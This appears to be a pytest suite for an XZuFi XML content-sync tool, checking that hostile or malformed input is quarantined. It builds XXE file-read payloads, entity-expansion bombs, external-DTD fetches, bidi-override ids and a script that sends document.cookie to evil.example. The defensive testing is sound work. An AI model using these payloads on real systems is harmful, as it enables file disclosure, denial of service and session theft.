"""Bad input: hostile or broken XZuFi documents and sources.

Every case syncs from a local folder (``source_dir``) next to a good document and checks three things: the
good records of the same run are committed, the bad part is quarantined (or warned about) with the file, the
record id where there is one, and a reason that says what is wrong, and nothing crashes.
"""

from __future__ import annotations

import os
import socket
import time
import uuid
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from content_sync.cli import main
from content_sync.models import Leistung, Textmodul
from content_sync.settings import SyncSettings
from content_sync.store import QuarantineEntry, Store
from content_sync.sync import SyncResult, run_sync, summary
from tests.conftest import DEMO, document, leistung_xml, oe_xml, zst_xml

SETTINGS = SyncSettings(retries=2, backoff=0.01, connect_timeout=2.0, read_timeout=0.5)
GOOD_ID = "TEST:GOOD-1"


def good_document() -> tuple[str, bytes]:
    return "good.xml", document(leistung_xml("GOOD-1", name="Wohngeld beantragen"))


def sync(folder: Path, store_path: Path, settings: SyncSettings = SETTINGS) -> SyncResult:
    result = run_sync(str(folder), store_path, settings)
    assert result.ok, result.error
    return result


def leistungen(store_path: Path) -> set[str]:
    with Store(store_path, readonly=True) as store:
        return store.keys("Leistung")


def only_entry(result: SyncResult, file: str) -> QuarantineEntry:
    entries = [q for q in result.quarantine if q.file == file]
    assert len(entries) == 1, result.quarantine
    return entries[0]


def assert_same_in_store(result: SyncResult, store_path: Path) -> None:
    """result.quarantine is what the store recorded for the run."""
    with Store(store_path, readonly=True) as store:
        assert store.quarantine(result.run_id) == result.quarantine


def store_bytes(store_path: Path) -> bytes:
    """The SQLite file and its -wal / -journal companions, as they are on disk."""
    return b"".join(p.read_bytes() for p in sorted(store_path.parent.glob(store_path.name + "*")))


@pytest.fixture
def clean_cli_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """``portal`` reads portal.toml from the working directory and PORTAL_* from the environment."""
    monkeypatch.chdir(tmp_path)
    for name in list(os.environ):
        if name.startswith("PORTAL_"):
            monkeypatch.delenv(name)


# --- entities and DTDs -----------------------------------------------------------------------------------


def xxe_general(secret: Path) -> bytes:
    return document(
        leistung_xml("XXE-1", name="&xxe;"),
        prolog=f'<!DOCTYPE x:transfer [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>',
    )


def xxe_parameter(secret: Path) -> bytes:
    return document(
        leistung_xml("XXE-1"),
        prolog=f'<!DOCTYPE x:transfer [<!ENTITY % xxe SYSTEM "{secret.as_uri()}"> %xxe;]>',
    )


def xxe_relative(secret: Path) -> bytes:
    # a relative SYSTEM id, resolved against the document's folder
    return document(
        leistung_xml("XXE-1", name="&xxe;"),
        prolog=f'<!DOCTYPE x:transfer [<!ENTITY xxe SYSTEM "../{secret.name}">]>',
    )


@pytest.mark.parametrize(
    "make", [xxe_general, xxe_parameter, xxe_relative], ids=["general-entity", "parameter-entity", "relative"]
)
def test_external_entity_is_refused_and_the_file_never_leaks(
    make, tmp_path: Path, source_dir, store_path: Path, capsys, clean_cli_env
) -> None:
    marker = f"SECRET-MARKER-{uuid.uuid4().hex}"
    secret = tmp_path / "secret.txt"
    secret.write_text(marker, encoding="utf-8")
    folder = source_dir(("xxe.xml", make(secret)), good_document())

    code = main(["sync", "--source", str(folder), "--store", str(store_path)])
    printed = capsys.readouterr()

    assert code == 0, printed
    assert "xxe.xml" in printed.out and "DOCTYPE" in printed.out
    with Store(store_path, readonly=True) as store:
        run = store.last_run()
        assert run is not None and run.outcome == "ok"
        entries = store.quarantine(run.id)
        assert store.keys("Leistung") == {GOOD_ID}
    [entry] = entries
    assert entry.file == "xxe.xml"
    assert "DOCTYPE" in entry.reason
    assert marker not in printed.out + printed.err
    assert marker.encode() not in store_bytes(store_path)


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    return document(leistung_xml("BOMB-1", name="&lol9;"), prolog=f"<!DOCTYPE x:transfer [{entities}]>")


def quadratic_blowup() -> bytes:
    entity = f'<!ENTITY a "{"a" * 50_000}">'
    return document(leistung_xml("BOMB-1", name="&a;" * 20_000), prolog=f"<!DOCTYPE x:transfer [{entity}]>")


@pytest.mark.parametrize(
    "make", [billion_laughs, quadratic_blowup], ids=["billion-laughs", "quadratic-blowup"]
)
def test_entity_bomb_is_refused(make, source_dir, store_path: Path) -> None:
    folder = source_dir(("bomb.xml", make()), good_document())

    started = time.perf_counter()
    result = sync(folder, store_path)

    assert time.perf_counter() - started < 5
    entry = only_entry(result, "bomb.xml")
    assert "DOCTYPE" in entry.reason
    assert leistungen(store_path) == {GOOD_ID}
    assert_same_in_store(result, store_path)


@pytest.fixture
def listener():
    """A TCP port on 127.0.0.1 that records whether anyone connected to it."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)

    def connected() -> bool:
        try:
            conn, _ = sock.accept()
        except BlockingIOError:
            return False
        conn.close()
        return True

    yield sock.getsockname()[1], connected
    sock.close()


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE x:transfer SYSTEM "http://127.0.0.1:1/x.dtd">',
        '<!DOCTYPE x:transfer SYSTEM "http://127.0.0.1:{port}/x.dtd">',
        '<!DOCTYPE x:transfer PUBLIC "-//EVIL//DTD X//EN" "http://127.0.0.1:{port}/x.dtd">',
        '<!DOCTYPE x:transfer [<!ENTITY % ext SYSTEM "http://127.0.0.1:{port}/x.ent"> %ext;]>',
        '<!DOCTYPE x:transfer [<!ENTITY ext SYSTEM "http://127.0.0.1:{port}/x.ent">]>',
    ],
    ids=["system-dtd-port-1", "system-dtd", "public-dtd", "external-parameter-entity", "external-entity"],
)
def test_external_dtd_is_refused_without_network(prolog: str, listener, source_dir, store_path: Path) -> None:
    port, connected = listener
    name = "&ext;" if "ENTITY ext " in prolog else "Personalausweis"
    bad = document(leistung_xml("DTD-1", name=name), prolog=prolog.format(port=port))
    folder = source_dir(("dtd.xml", bad), good_document())

    result = sync(folder, store_path)

    entry = only_entry(result, "dtd.xml")
    assert "DOCTYPE" in entry.reason
    assert leistungen(store_path) == {GOOD_ID}
    time.sleep(0.05)  # a connection attempt, had there been one, would be queued by now
    assert not connected(), "the parser touched the network"


# --- broken documents ------------------------------------------------------------------------------------


def two_leistungen() -> bytes:
    return document(leistung_xml("BROKEN-1"), leistung_xml("BROKEN-2"))


def mismatched_tag() -> bytes:
    return two_leistungen().replace(b"</x:leistung>", b"</x:leistun>", 1)


def cut_in_the_middle() -> bytes:
    data = two_leistungen()
    second = data.index(b"BROKEN-2")
    return data[: second + 40]  # the first Leistung is complete, the second is cut off


def missing_end() -> bytes:
    return two_leistungen().rsplit(b"</x:transfer>", 1)[0]


def binary_garbage() -> bytes:
    return b"\x00\x01\x02 this is not XML \xff\xfe"


@pytest.mark.parametrize(
    "make",
    [mismatched_tag, cut_in_the_middle, missing_end, binary_garbage],
    ids=["mismatched-tag", "truncated-mid-record", "truncated-before-root-end", "binary-garbage"],
)
def test_broken_document_is_quarantined_whole(make, source_dir, store_path: Path) -> None:
    folder = source_dir(("broken.xml", make()), good_document())

    result = sync(folder, store_path)

    entry = only_entry(result, "broken.xml")
    assert entry.klasse is None and entry.record_id is None
    assert "not well-formed" in entry.reason
    # nothing of the broken document, not even the records read before the error, is committed
    assert leistungen(store_path) == {GOOD_ID}
    assert result.counts.per_klasse["Dokument"] == {"quarantined": 1}
    assert_same_in_store(result, store_path)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            document(leistung_xml("ENC-1", name="Bürgerbüro für Änderungen")).decode().encode("latin-1"),
            "encoding",
        ),
        (
            document(leistung_xml("ENC-1")).replace(b'encoding="UTF-8"', b'encoding="x-klingon"'),
            "Unsupported encoding: x-klingon",
        ),
    ],
    ids=["latin1-bytes-declared-utf8", "unknown-encoding-name"],
)
def test_wrong_encoding_is_refused_with_a_clear_reason(
    data: bytes, expected: str, source_dir, store_path: Path
) -> None:
    folder = source_dir(("encoding.xml", data), good_document())

    result = sync(folder, store_path)

    entry = only_entry(result, "encoding.xml")
    assert expected.lower() in entry.reason.lower()
    assert "line" in entry.reason  # says where
    assert leistungen(store_path) == {GOOD_ID}


# --- broken records --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "leika", ["99008001", "990080010120001", "9900800101200X"], ids=["8-digits", "15-digits", "letter"]
)
def test_bad_leika_key_quarantines_that_leistung_only(leika: str, source_dir, store_path: Path) -> None:
    data = document(leistung_xml("LB-OK"), leistung_xml("LB-BAD", leika=leika))
    folder = source_dir(("leistungen.xml", data))

    result = sync(folder, store_path)

    entry = only_entry(result, "leistungen.xml")
    assert (entry.klasse, entry.record_id) == ("Leistung", "TEST:LB-BAD")
    assert "14 digits" in entry.reason and leika in entry.reason
    assert leistungen(store_path) == {"TEST:LB-OK"}
    assert result.counts.per_klasse["Leistung"] == {"new": 1, "quarantined": 1}
    assert_same_in_store(result, store_path)


@pytest.mark.parametrize(
    ("leistung", "oe", "expected"),
    [
        ("L-1", "OE-404", "unknown Organisationseinheit TEST:OE-404"),
        ("L-404", "OE-1", "unknown Leistung TEST:L-404"),
    ],
    ids=["unknown-office", "unknown-leistung"],
)
def test_zustaendigkeit_pointing_nowhere_is_quarantined(
    leistung: str, oe: str, expected: str, source_dir, store_path: Path
) -> None:
    stamm = document(leistung_xml("L-1"), oe_xml("OE-1"))
    zst = document(zst_xml("Z-OK", "L-1", "OE-1"), zst_xml("Z-BAD", leistung, oe))
    folder = source_dir(("stamm.xml", stamm), ("zustaendigkeiten.xml", zst))

    result = sync(folder, store_path)

    entry = only_entry(result, "zustaendigkeiten.xml")
    assert (entry.klasse, entry.record_id) == ("Zustaendigkeit", "TEST:Z-BAD")
    assert expected in entry.reason
    with Store(store_path, readonly=True) as store:
        assert store.keys("Zustaendigkeit") == {"TEST:Z-OK"}
        assert store.keys("Leistung") == {"TEST:L-1"}
    assert_same_in_store(result, store_path)


@pytest.mark.parametrize("gebiet", ["066999999999", "0699"], ids=["12-digit-unknown", "short-unknown"])
def test_zustaendigkeit_for_unknown_gebiet_is_quarantined(gebiet: str, source_dir, store_path: Path) -> None:
    stamm = document(leistung_xml("L-1"), oe_xml("OE-1"))
    zst = document(zst_xml("Z-OK", "L-1", "OE-1"), zst_xml("Z-BAD", "L-1", "OE-1", gebiet=gebiet))
    folder = source_dir(("stamm.xml", stamm), ("zustaendigkeiten.xml", zst))

    result = sync(folder, store_path)

    entry = only_entry(result, "zustaendigkeiten.xml")
    assert (entry.klasse, entry.record_id) == ("Zustaendigkeit", "TEST:Z-BAD")
    assert "unknown Gebiet" in entry.reason and gebiet in entry.reason
    with Store(store_path, readonly=True) as store:
        assert store.keys("Zustaendigkeit") == {"TEST:Z-OK"}


@pytest.mark.parametrize("layout", ["same-file", "two-files"])
def test_duplicate_id_keeps_the_first(layout: str, source_dir, store_path: Path) -> None:
    first = leistung_xml("LB-1", name="Erste Fassung")
    second = leistung_xml("LB-1", name="Zweite Fassung")
    if layout == "same-file":
        folder = source_dir(("a.xml", document(first, second)), good_document())
        second_file = "a.xml"
    else:
        folder = source_dir(("a.xml", document(first)), ("b.xml", document(second)), good_document())
        second_file = "b.xml"

    result = sync(folder, store_path)

    [entry] = result.quarantine
    assert (entry.file, entry.klasse, entry.record_id) == (second_file, "Leistung", "TEST:LB-1")
    assert "duplicate" in entry.reason and "a.xml" in entry.reason
    with Store(store_path, readonly=True) as store:
        kept = store.get(Leistung, "TEST:LB-1")
        assert kept is not None and kept.namen.de == "Erste Fassung"
        assert store.history("Leistung", "TEST:LB-1")[-1]["version"] == 1
        assert store.keys("Leistung") == {"TEST:LB-1", GOOD_ID}


def test_delete_of_unknown_id_is_counted_not_an_error(source_dir, store_path: Path) -> None:
    loesche = '<x:loesche klasse="Leistung"><x:id schemeAgencyID="TEST">LB-404</x:id></x:loesche>'
    folder = source_dir(("a.xml", document(leistung_xml("GOOD-1"), loesche=loesche)))

    result = sync(folder, store_path)

    assert result.error is None
    assert result.quarantine == []
    assert result.counts.deletes_unknown == 1
    assert result.counts.per_klasse["Leistung"] == {"new": 1, "deletes_unknown": 1}
    assert "1 deletes of unknown ids" in summary(result)
    with Store(store_path, readonly=True) as store:
        run = store.last_run()
        assert run is not None and (run.outcome, run.deletes_unknown, run.quarantined) == ("ok", 1, 0)
        assert store.quarantine(run.id) == []
        assert store.keys("Leistung") == {GOOD_ID}


@pytest.mark.parametrize(
    ("html", "what"),
    [
        ("<p>Antrag stellen.</p><script>fetch('https://evil.example/'+document.cookie)</script>", "script"),
        ('<p onclick="steal()">Antrag stellen.</p>', "event handler"),
        ('<p>Zum <a href="javascript:alert(1)">Formular</a>.</p>', "javascript:"),
    ],
    ids=["script-element", "onclick-attribute", "javascript-link"],
)
@pytest.mark.parametrize("wrapping", ["escaped", "cdata"])
def test_risky_markup_is_kept_as_sent_and_warned_about(
    html: str, what: str, wrapping: str, source_dir, store_path: Path
) -> None:
    content = escape(html) if wrapping == "escaped" else f"<![CDATA[{html}]]>"
    texts = (
        '<x:modulText><x:leikaTextmodul listURI="urn:de:xzufi:codeliste:leistungstextmodulleika">'
        f'<code>06</code></x:leikaTextmodul><x:inhalt languageCode="de">{content}</x:inhalt></x:modulText>'
    )
    folder = source_dir(("html.xml", document(leistung_xml("LB-HTML", texts=texts))), good_document())

    result = sync(folder, store_path)

    assert result.quarantine == []
    assert result.warnings == 1
    with Store(store_path, readonly=True) as store:
        kept = store.get(Leistung, "TEST:LB-HTML")
        assert kept is not None
        assert kept.text(Textmodul.VOLLTEXT).get("de") == html  # the data is not altered
        [warning] = store.warnings(result.run_id)
        assert store.keys("Leistung") == {"TEST:LB-HTML", GOOD_ID}
    assert (warning["file"], warning["klasse"], warning["record_id"]) == (
        "html.xml",
        "Leistung",
        "TEST:LB-HTML",
    )
    assert "Textmodul 06" in warning["message"]
    assert what in warning["message"]
    assert "removed when rendered" in warning["message"]


@pytest.mark.parametrize(
    ("agency", "local_id", "char"),
    [
        ("TEST", "LB\t1", "\t"),
        ("TEST", "LB\u009b31m1", "\u009b"),
        ("TEST", "LB-\u202e1gnp.exe", "\u202e"),
        ("TEST", "LB-\u200b1", "\u200b"),
        ("TEST", "LB-\ufeff1", "\ufeff"),
        ("TE\u202eST", "LB-1", "\u202e"),
    ],
    ids=[
        "tab",
        "c1-control-csi",
        "bidi-override-U+202E",
        "zero-width-space",
        "byte-order-mark",
        "agency-bidi",
    ],
)
def test_invisible_or_control_characters_in_ids_are_quarantined(
    agency: str, local_id: str, char: str, source_dir, store_path: Path
) -> None:
    data = document(leistung_xml(local_id, agency=agency), leistung_xml("GOOD-1"))
    folder = source_dir(("ids.xml", data))

    result = sync(folder, store_path)

    entry = only_entry(result, "ids.xml")
    assert entry.klasse == "Leistung"
    assert f"U+{ord(char):04X}" in entry.reason
    assert "control or invisible" in entry.reason
    # the offending character is never echoed into messages
    assert char not in entry.reason and char not in (entry.record_id or "")
    assert char not in summary(result)
    assert leistungen(store_path) == {GOOD_ID}


def test_document_over_the_size_cap_is_refused(source_dir, store_path: Path) -> None:
    # larger than one read of the parser, so records of it are parsed (and must be undone) before the cap hits
    big = document(*(leistung_xml(f"BIG-{n}") for n in range(200)))
    assert len(big) > 80_000
    folder = source_dir(("big.xml", big), good_document())
    settings = SyncSettings(retries=2, backoff=0.01, read_timeout=0.5, max_document_bytes=40_000)

    result = sync(folder, store_path, settings)

    entry = only_entry(result, "big.xml")
    assert "larger than the limit of 40000 bytes" in entry.reason
    assert leistungen(store_path) == {GOOD_ID}


@pytest.mark.parametrize("depth", [10_000, 100_000], ids=["10k", "100k"])
@pytest.mark.parametrize("where", ["inside-text", "inside-schreibe"])
def test_deep_nesting_is_refused_without_crash(depth: int, where: str, source_dir, store_path: Path) -> None:
    nested = "<b>" * depth + "tief" + "</b>" * depth
    if where == "inside-text":
        data = document(leistung_xml("DEEP-1", name=nested))
    else:
        data = document(leistung_xml("DEEP-1") + nested)
    folder = source_dir(("deep.xml", data), good_document())

    result = sync(folder, store_path)

    entry = only_entry(result, "deep.xml")
    assert "not well-formed" in entry.reason or "limit" in entry.reason
    assert "depth" in entry.reason.lower()
    assert leistungen(store_path) == {GOOD_ID}


# --- a corrupt archive as the source ---------------------------------------------------------------------


def _zip(path: Path, compression: int) -> bytes:
    with zipfile.ZipFile(path, "w", compression) as archive:
        archive.writestr("index.txt", "neu.xml\n")
        archive.writestr("neu.xml", document(*(leistung_xml(f"NEU-{n}") for n in range(20))))
    return path.read_bytes()


def _first_member_data(raw: bytes) -> int:
    """Offset of the data of the first member (after its local header)."""
    assert raw[:4] == b"PK\x03\x04"
    name_len = int.from_bytes(raw[26:28], "little")
    extra_len = int.from_bytes(raw[28:30], "little")
    return 30 + name_len + extra_len


def _second_member_data(raw: bytes) -> int:
    start = raw.index(b"PK\x03\x04", 4)
    return start + _first_member_data(raw[start:])


def garbage_zip(tmp: Path) -> bytes:
    return b"PK\x03\x04" + os.urandom(300)


def truncated_zip(tmp: Path) -> bytes:
    raw = _zip(tmp / "t.zip", zipfile.ZIP_DEFLATED)
    return raw[: len(raw) * 2 // 3]


def bad_crc_zip(tmp: Path) -> bytes:
    raw = bytearray(_zip(tmp / "t.zip", zipfile.ZIP_STORED))
    at = _second_member_data(bytes(raw)) + 200
    raw[at] ^= 0x01  # one bit flipped in a stored member: CRC-32 mismatch
    return bytes(raw)


def bad_deflate_zip(tmp: Path) -> bytes:
    raw = bytearray(_zip(tmp / "t.zip", zipfile.ZIP_DEFLATED))
    at = _second_member_data(bytes(raw))
    for i in range(at + 10, at + 60):
        raw[i] ^= 0x55
    return bytes(raw)


def bad_local_header_zip(tmp: Path) -> bytes:
    raw = bytearray(_zip(tmp / "t.zip", zipfile.ZIP_DEFLATED))
    start = raw.index(b"PK\x03\x04", 4)
    raw[start : start + 4] = b"XXXX"
    return bytes(raw)


@pytest.mark.parametrize(
    "make",
    [garbage_zip, truncated_zip, bad_crc_zip, bad_deflate_zip, bad_local_header_zip],
    ids=["garbage", "truncated-archive", "bad-crc-member", "bad-deflate-member", "bad-local-header"],
)
def test_corrupt_zip_archive_fails_cleanly(make, tmp_path: Path, source_dir, store_path: Path) -> None:
    sync(source_dir(good_document()), store_path)
    with Store(store_path, readonly=True) as store:
        before = store.snapshot()
    assert before
    archive = tmp_path / "export.zip"
    archive.write_bytes(make(tmp_path))

    result = run_sync(str(archive), store_path, SETTINGS)

    assert result.outcome == "failed"
    assert result.error is not None and str(archive) in result.error
    with Store(store_path, readonly=True) as store:
        assert store.snapshot() == before
        run = store.runs()[-1]
        assert run.outcome == "failed" and run.error == result.error
    assert "the store was not changed" in summary(result)


# --- portal validate -------------------------------------------------------------------------------------


def test_validate_lists_every_problem(tmp_path: Path, capsys, clean_cli_env) -> None:
    file = tmp_path / "zwei-fehler.xml"
    file.write_bytes(
        document(
            leistung_xml("LB-OK"),
            leistung_xml("LB-LEIKA", leika="99008001"),
            leistung_xml("LB-\u202e1"),
        )
    )

    code = main(["validate", str(file)])
    out = capsys.readouterr().out

    assert code == 1
    problems = [line for line in out.splitlines() if line.startswith(f"{file}: Leistung")]
    assert len(problems) == 2, out
    assert "TEST:LB-LEIKA" in problems[0] and "14 digits" in problems[0]
    assert "U+202E" in problems[1]
    assert f"{file}: 1 valid records, 2 problems" in out


@pytest.mark.parametrize("name", sorted(p.name for p in (DEMO / "nacht-1").glob("*.xml")))
def test_validate_demo_file_is_clean(name: str, capsys, clean_cli_env) -> None:
    file = DEMO / "nacht-1" / name

    code = main(["validate", str(file)])
    out = capsys.readouterr().out

    assert code == 0, out
    assert out.rstrip().endswith(" 0 problems")
